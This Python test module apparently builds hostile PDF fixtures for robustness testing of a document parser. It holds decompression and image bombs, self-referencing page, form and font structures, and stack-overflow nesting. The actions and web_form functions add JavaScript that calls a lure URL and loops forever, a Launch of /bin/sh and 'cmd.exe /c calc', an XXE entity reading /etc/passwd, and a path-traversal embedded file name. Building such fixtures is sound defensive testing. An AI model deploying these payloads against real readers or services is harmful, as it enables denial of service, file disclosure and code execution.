"""Hostile PDF."""

import hashlib
import random
import zlib
from collections.abc import Iterable

from tests.hostile.hostile import Hostile, Lures, made
from tests.unit.documents import document_makers as makers

MEGA = 1_000_000
_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Write objects 1 … n, the first of which is the catalogue; readers find them themselves."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % each for each in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R" + trailer + b">>\n%%EOF"


def stream(data: bytes, facts: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (facts, len(data), data)


def page(
    content: bytes = b"",
    *more: bytes,
    resources: bytes = b"",
    box: bytes = b"0 0 595 842",
    page: bytes = b"",
    catalogue: bytes = b"",
) -> bytes:
    """A page with content, as object 4; further objects begin with 5."""
    content = content if content.startswith(b"<<") else stream(content)
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<<%s>>%s>>"
        % (box, resources, page),
        content,
        *more,
    )


def image(facts: bytes, data: bytes) -> bytes:
    """A page that is a picture."""
    facts = b"/Type/XObject/Subtype/Image" + facts
    return page(
        b"q 500 0 0 500 9 9 cm /X Do Q", stream(data, facts), resources=b"/XObject<</X 5 0 R>>"
    )


def form(content: bytes, resources: bytes) -> bytes:
    facts = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<<%s>>" % resources
    return stream(content, facts)


def packed(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def flate_bomb(times: int) -> bytes:
    filters = b"/FlateDecode" * times
    return page(stream(packed(b" " * (80 * MEGA), times), b"/Filter[%s]" % filters))


def image_bomb() -> bytes:
    facts = b"/Width 30000/Height 30000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode"
    return image(facts, packed(bytes(100 * MEGA)))


def object_stream_bomb() -> bytes:
    data = packed(b"1 0 " * 1000 + b" " * (80 * MEGA))
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        stream(data, b"/Type/ObjStm/N 99999999/First 4000/Filter/FlateDecode"),
    )


def doubling_forms() -> bytes:
    """Forms that each draw the next one ten times."""
    more = [form(b"/X Do " * 10, b"/XObject<</X %d 0 R>>" % (index + 1)) for index in range(5, 25)]
    return page(b"/X Do", *more, form(b"0 0 9 9 re f", b""), resources=b"/XObject<</X 5 0 R>>")


def many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (index + 3) for index in range(count))
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/MediaBox[0 0 9 9]/Count %d/Kids[%s]>>" % (count, kids),
        *[b"<</Type/Page/Parent 2 0 R>>"] * count,
    )


def deep_tree(depth: int) -> bytes:
    nodes = (b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (index + 3) for index in range(depth))
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>")


def locked_with_nothing() -> bytes:
    """Encrypted with the empty password (32000-1, 7.6.3, revision 2): anybody can open it."""
    owner, number = bytes(range(32)), b"0123456789abcdef"
    key = hashlib.md5(_PAD + owner + (-4).to_bytes(4, "little", signed=True) + number).digest()  # noqa: S324
    user = rc4(key[:5], _PAD)
    trailer = b"/ID[<%s><%s>]/Encrypt<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>" % (
        *[number.hex().encode()] * 2,
        owner.hex().encode(),
        user.hex().encode(),
    )
    blank = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    tree = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", tree, blank, trailer=trailer)


def rc4(key: bytes, data: bytes) -> bytes:
    state, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def font_page(font: bytes, *more: bytes) -> bytes:
    return page(b"BT /F 20 Tf 9 99 Td (Words) Tj ET", font, *more, resources=b"/Font<</F 5 0 R>>")


def broken_truetype(size: int) -> bytes:
    chance = random.Random(3)
    tables = b"".join(
        name + chance.randbytes(4) + chance.randbytes(4) + b"\xff\xff\xff\xf0"
        for name in (b"cmap", b"glyf", b"head", b"hhea", b"hmtx", b"loca", b"maxp", b"post")
    )
    data = b"\0\1\0\0\0\x08\0\x80\0\3\0\0" + tables + chance.randbytes(size)
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor 6 0 R>>"
    facts = b"<</Type/FontDescriptor/FontName/A/Flags 4/FontFile2 7 0 R>>"
    return font_page(font, facts, stream(data))


def recursive_type1() -> bytes:
    program = b"%!PS-AdobeFont-1.0: A\n/Subrs 9 array dup 0 { 0 callsubr } put\n" * 999
    font = b"<</Type/Font/Subtype/Type1/BaseFont/A/FontDescriptor 6 0 R>>"
    facts = b"<</Type/FontDescriptor/FontName/A/Flags 4/FontFile 7 0 R>>"
    return font_page(font, facts, stream(program, b"/Length1 99999999/Length2 -1/Length3 0"))


def huge_map() -> bytes:
    ranges = b"9999 begincidrange <0000> <ffffffff> 0 " * 50_000
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding 6 0 R/DescendantFonts[7 0 R]>>"
    below = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/W[0 4294967295 500]/DW 1e38>>"
    return font_page(font, stream(ranges, b"/Type/CMap/CMapName/A"), below)


def calling_itself(kind: bytes) -> bytes:
    """A pattern, a font, a mask and a form that are drawn by drawing themselves."""
    tiling = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 1/YStep 1"
    state = b"/ExtGState<</G<</SMask<</S/Luminosity/G 5 0 R>>>>>>"
    match kind:
        case b"form":
            return page(
                b"/X Do",
                form(b"/X Do", b"/XObject<</X 5 0 R>>"),
                resources=b"/XObject<</X 5 0 R>>",
            )
        case b"pattern":
            inner = stream(
                b"/Pattern cs /P scn 0 0 9 9 re f", tiling + b"/Resources<</Pattern<</P 5 0 R>>>>"
            )
            outer = b"/Pattern cs /P scn 0 0 595 842 re f"
            return page(outer, inner, resources=b"/Pattern<</P 5 0 R>>")
        case b"font":
            font = (
                b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<<"
                b"/W 6 0 R>>/Encoding<</Differences[87/W]>>/FirstChar 87/LastChar 87/Widths[9]"
                b"/Resources<</Font<</F 5 0 R>>>>>>"
            )
            return font_page(font, stream(b"9 0 d0 BT /F 9 Tf (WWWW) Tj ET"))
        case _:
            group = form(b"/G gs 0 0 9 9 re f", state + b"")
            return page(b"/G gs 0 0 99 99 re f", group, resources=state)


def actions(lures: Lures) -> bytes:
    """Everything that a PDF can be told to do when it is opened or seen."""
    acts = [
        b"/S/JavaScript/JS(app.alert(1);this.getURL('%s');while(1);)" % lures.web.encode(),
        b"/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>",
        b"/S/URI/URI(%s)" % lures.web.encode(),
        b"/S/GoToR/F<</FS/URL/F(%s)>>/D[0/Fit]" % lures.web6.encode(),
        b"/S/GoToE/F(%s)/T<</R/C>>" % bytes(lures.secret),
        b"/S/SubmitForm/F<</FS/URL/F(%s)>>" % lures.named.encode(),
        b"/S/ImportData/F(%s)" % bytes(lures.secret),
        b"/S/Rendition/JS(while(1);)",
    ]
    chain = b"".join(b"<<%s/Next[" % act for act in acts) + b"]>>" * len(acts)
    notes = b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<%s>>/AA<</PO<<%s>>>>>>" % (act, act)
        for act in acts
    )
    return page(
        catalogue=b"/OpenAction %s/AA<</WC<<%s>>>>/URI<</Base(%s)>>"
        % (chain, acts[0], lures.web.encode()),
        page=b"/Annots[%s]/AA<</O<<%s>>>>" % (notes, acts[0]),
    )


def outside_streams(lures: Lures) -> bytes:
    """Contents, picture, font and profile that lie elsewhere."""
    more = [
        b"<</F<</FS/URL/F(%s)>>/Length 0/Type/XObject/Subtype/Image/Width 9/Height 9"
        b"/BitsPerComponent 8/ColorSpace/DeviceGray>>stream\n\nendstream"
        % address.replace("\\", "/").encode()
        for address in lures.addresses
    ]
    reference = form(b"", b"") .replace(
        b"/Subtype/Form", b"/Subtype/Form/Ref<</F(%s)/Page 0>>/OPI<</2.0<</F(%s)>>>>"
        % (bytes(lures.secret), bytes(lures.secret))
    )  # fmt: skip
    names = b"".join(b"/X%d %d 0 R" % (at, at) for at in range(5, 5 + len(more) + 1))
    draw = b" ".join(b"/X%d Do" % at for at in range(5, 5 + len(more) + 1))
    return page(draw, *more, reference, resources=b"/XObject<<%s>>" % names)


def web_form(lures: Lures) -> bytes:
    entity = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{lures.web}"><!ENTITY b SYSTEM "/etc/passwd">]>'
    xfa = stream(f"{entity}<xdp:xdp xmlns:xdp='x'>&a;&b;<template/></xdp:xdp>".encode())
    files = b"/Names<</EmbeddedFiles<</Names[(a)<</F(../../a)/EF<</F 5 0 R>>>>]>>>>"
    return page(
        b"", xfa, catalogue=b"/AcroForm<</XFA 5 0 R/Fields[]/NeedAppearances true>>" + files
    )


def many_words(word: bytes, times: int) -> bytes:
    return page(stream(packed(word * times), b"/Filter/FlateDecode"))


def functions() -> bytes:
    program = b"{ " + b"dup mul sin 2 exp " * 20_000 + b"}"
    function = stream(program, b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]")
    shading = b"<</ShadingType 1/ColorSpace/DeviceGray/Function 5 0 R/Matrix[595 0 0 842 0 0]>>"
    return page(b"/S sh", function, resources=b"/Shading<</S %s>>" % shading)


def mesh() -> bytes:
    facts = (
        b"/ShadingType 7/ColorSpace/DeviceRGB/BitsPerCoordinate 32/BitsPerComponent 16"
        b"/BitsPerFlag 2/Decode[-1e9 1e9 -1e9 1e9 0 1 0 1 0 1]"
    )
    data = random.Random(1).randbytes(2 * MEGA)
    return page(b"/S sh", stream(data, facts), resources=b"/Shading<</S 5 0 R>>")


def tiles(step: bytes) -> bytes:
    facts = b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep %s/YStep %s" % (
        step,
        step,
    )
    use = b"/Pattern cs /P scn 0 0 595 842 re f"
    return page(use, stream(b"0 0 1 1 re f", facts), resources=b"/Pattern<</P 5 0 R>>")


def boxes() -> Iterable[Hostile]:
    for name, box in {
        "huge": b"0 0 1e9 1e9",
        "empty": b"0 0 0 0",
        "upside down": b"595 842 0 0",
        "infinite": b"-inf -inf inf inf",
        "no numbers": b"nan nan nan nan",
        "tiny": b"0 0 1e-9 1e-9",
        "endless digits": b"0 0 " + b"9" * 400 + b" 842",
        "a ribbon": b"0 0 1 14400",
        "far away": b"1e30 1e30 2e30 2e30",
    }.items():
        drawn = b"0 0 m 9 9 l 1e30 nan l inf -inf l S"
        yield made(f"pdf box {name}", "sizes no sheet has", page(drawn, box=box))
        unit = b"/UserUnit 1e12/Rotate 2147483647"
        yield made(f"pdf unit {name}", "sizes no sheet has", page(drawn, box=box, page=unit))


def codecs() -> Iterable[Hostile]:
    size, chance = (
        b"/Width 500/Height 500/BitsPerComponent 1/ColorSpace/DeviceGray",
        random.Random(5),
    )
    huge = size.replace(b"500", b"99999999")
    for name in ("JBIG2Decode", "JPXDecode", "CCITTFaxDecode", "DCTDecode", "LZWDecode", "Crypt"):
        filtered = b"/Filter/%s/DecodeParms<</K -1/Columns 99999999/Rows 99999999>>" % name.encode()
        for what, facts in (("damaged", size), ("huge", huge)):
            data = chance.randbytes(5000)
            yield made(f"pdf {name} {what}", "decoders in C", image(facts + filtered, data))
    header = bytes.fromhex("ff4fff51002f0000ffffffffffffffff") + bytes(16) + b"\xff" * 16
    yield made("pdf jpx lie", "a picture of 4 thousand million by as many", image(
        size + b"/Filter/JPXDecode", header + bytes(999)))  # fmt: skip
    page_info = b"\0\0\0\0\x30\0\1\0\0\0\x13\xff\xff\xff\xff\xff\xff\xff\xff" + bytes(11)
    yield made("pdf jbig2 lie", "a page of 4 thousand million rows", image(
        size + b"/Filter/JBIG2Decode", page_info))  # fmt: skip


def structures() -> list[Hostile]:
    """Trees that are none, tables that lie, things within themselves."""
    good = makers.pdf_bytes(makers.text_content(3))
    loop = b"<</Type/Pages/Count 1/Kids[2 0 R]>>"
    catalogue = b"<</Type/Catalog/Pages 2 0 R>>"
    twins = b"<</Type/Pages/Count 99/Kids[3 0 R 3 0 R]>>", b"<</Type/Pages/Count 9/Kids[2 0 R]>>"
    lie = b"<</Type/Pages/Count 2147483647/Kids[]>>"
    outlines = b"<</First 5 0 R/Last 5 0 R/Count -9>>", b"<</Next 5 0 R/Prev 5 0 R/Parent 5 0 R>>"
    fields = b"/AcroForm<</Fields[5 0 R]/NeedAppearances true>>"
    field = b"<</FT/Tx/T(a)/V(b)/Kids[5 0 R 5 0 R]/Parent 5 0 R/Rect[0 0 9 9]/DA(/F 1e9 Tf)>>"
    notes = b"/Annots[%s]" % (b"<</Subtype/FreeText/Rect[0 0 99 99]/AP<</N 4 0 R>>>>" * 50_000)
    return [
        made("pdf flate bomb", "80 MB of content", lambda: flate_bomb(1)),
        made("pdf nested filters", "packed three times over", lambda: flate_bomb(3)),
        made("pdf image bomb", "2.7 GB of pixels", image_bomb),
        made("pdf object stream bomb", "80 MB of objects", object_stream_bomb),
        made("pdf doubling forms", "10 to the 20th drawings", doubling_forms),
        made("pdf tree its own child", "no end of pages", pdf(catalogue, loop)),
        made("pdf tree of twins", "no end of pages", pdf(catalogue, *twins)),
        made("pdf count lie", "two thousand million pages", pdf(catalogue, lie)),
        made("pdf of 100,000 pages", "more than a fax may have", lambda: many_pages(100_000)),
        made("pdf deep tree", "a stack overflows", lambda: deep_tree(50_000)),
        *[
            made(f"pdf {kind} in itself", "drawn by drawing itself",
                 calling_itself(kind.encode())) for kind in ("form", "pattern", "font", "mask")
        ],
        made("pdf outlines in a circle", "no end",
             page(b"", *outlines, catalogue=b"/Outlines 5 0 R")),
        made("pdf field in a circle", "no end of fields", page(b"", field, catalogue=fields)),
        made("pdf 50,000 notes", "each drawn", page(b"0 0 9 9 re f", page=notes)),
        made("pdf length is itself", "read to know how much to read",
             page(b"<</Length 4 0 R>>stream\n0 0 9 9 re f\nendstream")),
        made("pdf contents is the page", "a page that is its own stream",
             page().replace(b"/Contents 4 0 R", b"/Contents[3 0 R 2 0 R 4 0 R]")),
        made("pdf resources in a circle", "looked up for ever",
             page(b"/X Do", b"5 0 R").replace(b"/Resources<<>>", b"/Resources 5 0 R")),
        made("pdf previous tables in a circle", "read for ever",
             good.replace(b"trailer<<", b"trailer<</Prev 9 ")),
        made("pdf cross reference lie", "a table of 4 thousand million",
             good.replace(b"/Size ", b"/Size 4294967295")),
        made("pdf deep arrays", "a stack overflows", page(b"[" * 500_000)),
        made("pdf deep dictionaries", "a stack overflows",
             pdf(b"<</Type/Catalog/Pages 2 0 R/A" + b"<</A" * 500_000)),
    ]  # fmt: skip


def contents() -> list[Hostile]:
    """Pages that are drawn for hours, fonts, locks, links."""
    dash = b"[0.00001 0.00001] 0 d 5 w 0 0 m 595 842 l S"
    path = b"0 0 m " + b"1 1 l 500 800 l 3 9 l 1 800 l " * 250_000 + b"f*"
    unknown = b"/Encrypt<</Filter/Unknown/V 99/R 99/O()/U()/P 0>>/ID[()()]"
    good = makers.pdf_bytes(makers.text_content(3))
    return [
        made("pdf states never given back", "a stack without end", many_words(b"q ", 5 * MEGA)),
        made("pdf a million lines", "a path that takes minutes", lambda: many_words(path, 1)),
        made("pdf dashes", "sixty million dashes", page(dash)),
        made("pdf a million words", "each set", many_words(b"BT /F 9 Tf (W) Tj ET ", MEGA)),
        made("pdf clip on clip", "each is cut", many_words(b"0 0 9 9 re W n ", MEGA)),
        made("pdf function of 60,000 steps", "for each point", functions()),
        made("pdf mesh", "patches everywhere", mesh()),
        made("pdf tiles", "a thousand million tiles", tiles(b"0.0001")),
        made("pdf tiles without a step", "a division by zero", tiles(b"0")),
        made("pdf broken font", "a parser of fonts", broken_truetype(5000)),
        made("pdf huge font", "a parser of fonts", lambda: broken_truetype(10 * MEGA)),
        made("pdf type 1 font", "a font that is a program", recursive_type1()),
        made("pdf huge map of characters", "50,000 ranges of everything", huge_map()),
        made("pdf locked with nothing", "opens by itself", locked_with_nothing()),
        made("pdf locked", "wants a password", makers.encrypted_pdf()),
        made("pdf locked unheard of", "in a way nobody knows",
             page().replace(b"trailer<<", b"trailer<<" + unknown)),
        made("pdf strings unclosed", "read to the end", page(b"(" * MEGA)),
        made("pdf cut off", "an end is missing", good[: len(good) // 2]),
        Hostile("pdf actions", "scripts, programs, addresses", actions, reaches_out=True),
        Hostile("pdf streams elsewhere", "files and addresses", outside_streams, reaches_out=True),
        Hostile("pdf web form", "entities, files within", web_form, reaches_out=True),
        *boxes(),
        *codecs(),
    ]  # fmt: skip


def files() -> list[Hostile]:
    """Return them all."""
    return [*structures(), *contents()]
